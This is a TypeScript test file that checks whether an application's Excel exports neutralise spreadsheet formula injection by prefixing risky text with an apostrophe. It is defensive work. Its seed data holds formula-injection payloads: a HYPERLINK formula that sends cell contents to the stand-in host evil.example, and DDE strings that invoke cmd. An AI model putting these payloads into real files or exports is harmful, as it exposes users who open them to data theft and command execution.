import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { download, type ExportKit, rowsOf, sheetOf, startExportKit } from '../../testing/export-kit.ts';

// Every Excel export writes text that a spreadsheet would run (a leading = + - @, tab or CR) with a leading
// apostrophe: the main organisation's funder and program names and report descriptions are made formulas,
// each file is read back with exceljs, and no text cell may start a formula.

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

let kit: ExportKit;

beforeAll(async () => {
  kit = await startExportKit();
  const formulas = `array[${FORMULAS.map((_, index) => `$${index + 2}`).join(', ')}]::text[]`;
  const pick = (column: string) => `(${formulas})[1 + ${column} % ${FORMULAS.length}] || ' ' || ${column}`;
  await kit.admin.query(`update funders set name = ${pick('id')} where organization_id = $1`, [
    kit.org.main,
    ...FORMULAS,
  ]);
  await kit.admin.query(`update programs set name = ${pick('id')} where organization_id = $1`, [
    kit.org.main,
    ...FORMULAS,
  ]);
  await kit.admin.query(`update reports set description = ${pick('id')} where organization_id = $1`, [
    kit.org.main,
    ...FORMULAS,
  ]);
}, 60_000);

afterAll(async () => {
  await kit?.close();
});

function textCells(sheet: ExcelJS.Worksheet): string[] {
  return rowsOf(sheet)
    .flat()
    .filter((value): value is string => typeof value === 'string');
}

async function workbookOf(url: string): Promise<ExcelJS.Workbook> {
  const response = await download(kit, url);
  expect(response.statusCode, url).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  return workbook;
}

/** No text cell starts a formula, and the formula names are there, each behind its apostrophe. */
function expectNeutralised(cells: string[], label: string) {
  expect(
    cells.filter((cell) => TRIGGERS.includes(cell.charAt(0))),
    label,
  ).toEqual([]);
  const neutralised = cells.filter((cell) => FORMULAS.some((formula) => cell.startsWith(`'${formula} `)));
  expect(neutralised.length, label).toBeGreaterThan(0);
}

describe('formula text in the Excel exports', () => {
  it.each([
    '/export/grants.xlsx',
    '/export/pipeline.xlsx',
    '/export/reports.xlsx',
    '/export/funders.xlsx',
    '/export/programs.xlsx',
  ])('%s neutralises formula text', async (url) => {
    const response = await download(kit, url);
    expect(response.statusCode, url).toBe(200);
    expectNeutralised(textCells(await sheetOf(response.rawPayload)), url);
  });

  it.each(['grants', 'reports'])(
    'the deadlines export neutralises formula text (%s sheet)',
    async (table) => {
      const workbook = await workbookOf(`/export/deadlines.xlsx?days=365&tables=${table}`);
      const [sheet] = workbook.worksheets;
      if (!sheet) throw new Error('no sheet');
      expectNeutralised(textCells(sheet), table);
    },
  );

  it('keeps the exact name after the apostrophe', async () => {
    const cells = textCells(await sheetOf((await download(kit, '/export/funders.xlsx')).rawPayload));
    const hyperlink = cells.find((cell) => cell.includes('HYPERLINK'));
    expect(hyperlink).toMatch(/^'=HYPERLINK\("https:\/\/evil\.example\/\?d="&A1,"Click"\) \d+$/);
  });
});
